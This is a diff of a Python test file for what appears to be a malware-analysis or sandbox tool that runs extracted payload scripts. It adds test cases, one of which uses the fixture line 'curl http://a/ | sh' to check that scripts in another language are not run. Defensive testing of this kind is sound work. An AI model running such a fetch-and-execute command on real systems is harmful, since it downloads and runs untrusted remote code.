@@ -200,7 +200,7 @@ def test_artifacts_need_an_empty_folder_and_a_trace(
 def test_payloads_are_run_level_by_level_in_the_same_world(
     fake: FakeSupervisor, sample: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    fake.answers["sample"] = left(artifact(0, b"one"), artifact(1, b"two", "b.txt", "script"))
+    fake.answers["sample"] = left(artifact(0, b"one"), artifact(1, b"two", "node", "script"))
     fake.answers["one"] = left(artifact(0, b"three"), artifact(1, b"two"))
     assert stockade(fake, sample, "--run-payloads", "9", "--answer", "http=error") == 0
     assert [call["source"] for call in fake.calls] == ["sample", "one", "two", "three"]
@@ -218,8 +218,10 @@ def test_payloads_are_run_level_by_level_in_the_same_world(
         artifact(0, b"", "a.js"),
         replace(artifact(0, b"x", "a.js"), cut=True),
         artifact(0, b"x", "a.jse", "download"),
+        artifact(0, b"curl http://a/ | sh", "sh", "script"),
+        artifact(0, b"x", "node", "decoded"),
     ],
-    ids=["no script", "empty", "cut", "encoded"],
+    ids=["no script", "empty", "cut", "encoded", "another language", "no code"],
 )
 def test_what_is_no_whole_script_is_not_run(
     fake: FakeSupervisor, sample: str, one: Artifact
